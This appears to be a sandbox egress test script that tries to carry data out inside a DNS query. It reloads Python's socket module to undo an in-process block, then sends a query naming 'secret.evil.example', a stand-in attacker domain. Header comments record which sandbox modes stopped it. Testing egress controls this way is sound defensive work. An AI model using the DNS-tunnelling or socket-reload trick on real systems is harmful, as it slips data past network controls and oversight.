# tries: carry data out in the name of a DNS question
# full: stopped
# no-landlock: stopped
# lambda: open: a DNS firewall that answers for our buckets alone

import importlib, json, socket, struct
importlib.reload(socket)  # our refusal in Python is advice, and this undoes it
question = struct.pack("!6H", 1, 256, 1, 0, 0, 0) + b"\x06secret\x04evil\x07example\x00" + struct.pack("!2H", 16, 1)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", json.load(open("bait.json"))["datagrams"]))
    print("REACHED")
except PermissionError as error:
    print("HELD", error)
